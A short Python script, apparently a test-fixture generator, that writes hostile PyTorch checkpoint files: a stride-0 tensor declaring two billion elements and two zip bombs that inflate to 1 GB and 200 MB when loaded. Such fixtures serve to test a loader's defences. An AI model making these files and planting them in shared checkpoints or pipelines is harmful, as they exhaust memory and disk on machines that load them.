"""Writes tiny torch.save files that declare huge tensors, as an attacker would (real torch.save, then edited).

usage: torch_hostile.py OUT_DIR
  stride0.pt   one float whose saved view is 2e9 elements (stride 0): a few hundred bytes
  bomb.pt      a state dict whose data/0 inflates to 1 GB of zeros
  pklbomb.pt   a state dict whose data.pkl inflates to 200 MB"""
import io
import sys
import zipfile

import torch

out = sys.argv[1]
torch.save({"w": torch.zeros(1).expand(2_000_000_000)}, f"{out}/stride0.pt")


buffer = io.BytesIO()
torch.save({"w": torch.zeros(4)}, buffer)
buffer.seek(0)
zeros = bytes(1 << 20)


# Stored entries as torch wrote them; data/0 deflated from 1 GB of zeros.
buffer.seek(0)
with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(f"{out}/bomb.pt", "w") as dst:
    for item in src.infolist():
        if item.filename.endswith("data/0"):
            info = zipfile.ZipInfo(item.filename)
            info.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(info, "w", force_zip64=True) as entry:
                for _ in range(1024):
                    entry.write(zeros)
        else:
            dst.writestr(item, src.read(item.filename))

buffer.seek(0)
with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(f"{out}/pklbomb.pt", "w") as dst:
    for item in src.infolist():
        if item.filename.endswith("data.pkl"):
            info = zipfile.ZipInfo(item.filename)
            info.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(info, "w", force_zip64=True) as entry:
                entry.write(src.read(item.filename))
                for _ in range(200):
                    entry.write(zeros)
        else:
            dst.writestr(item, src.read(item.filename))
